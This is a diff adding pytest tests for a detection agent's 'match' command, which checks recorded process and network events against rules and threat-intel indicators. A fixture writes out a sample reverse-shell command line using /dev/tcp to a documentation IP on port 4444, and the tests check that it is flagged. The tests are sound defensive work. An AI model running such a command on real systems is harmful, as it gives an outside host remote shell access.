@@ -9,6 +9,8 @@ from agent.cli import main
 from agent.commands.match import open_index
 from proto.content.errors import ContentDamaged, ContentError
 from proto.content.kinds import IndicatorKind
+from proto.content.rulesfile import written
+from tests.collector.content.rulesources import own
 from tests.proto.content.builders import EICAR, a_file
 
 
@@ -114,3 +116,67 @@ def test_a_value_that_is_none_of_its_kind_matches_nothing(
 
     assert code == 0
     assert capsys.readouterr().err == ""
+
+
+@pytest.fixture
+def events(tmp_path: Path) -> Path:
+    path = tmp_path / "events.jsonl"
+    shell = {"Image": "/bin/sh", "CommandLine": "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1"}
+    lines = [{"Image": "/bin/ls"}, shell, {"DestinationIp": "192.0.2.1"}]
+    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
+    return path
+
+
+@pytest.fixture
+def rules(tmp_path: Path) -> Path:
+    path = tmp_path / "content.vdr"
+    path.write_bytes(written(own().rules))
+    return path
+
+
+def test_recorded_events_are_judged_by_rules_and_indicators(
+    index: Path, rules: Path, events: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    words = ["--rules", str(rules), "--intel", str(index), "--format", "raw"]
+
+    code = main(["match", *words, "--events", str(events), "--json"])
+
+    rows = matched(capsys)
+    assert code == 3
+    assert all(set(row) == {"rule_id", "event", "fields"} for row in rows)
+    assert {row["event"] for row in rows} == {1, 2}
+    assert rows[0]["fields"] == {
+        "Image": "/bin/sh",
+        "CommandLine": "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+    }
+
+
+def test_events_of_nobody_are_silence_and_exit_0(
+    rules: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "quiet.jsonl").write_text('{"Image": "/bin/ls"}\n{\n')
+    words = ["--rules", str(rules), "--format", "ecs", "--events", str(tmp_path / "quiet.jsonl")]
+
+    code = main(["match", *words, "--json"])
+
+    out, err = capsys.readouterr()
+    assert (code, out) == (0, "")
+    assert "1 of 2 lines are no events of format ecs" in err
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        [],
+        ["--index", "x.vdx"],
+        ["--index", "x.vdx", "ipv4"],
+        ["--events", "x.jsonl"],
+        ["--events", "x.jsonl", "--rules", "x", "ipv4", "1"],
+        ["--events", "x.jsonl", "--rules", "x", "--format", "other"],
+    ],
+)
+def test_what_makes_no_sense_together_is_usage(words: list[str]) -> None:
+    with pytest.raises(SystemExit) as caught:
+        main(["match", *words])
+
+    assert caught.value.code == 2
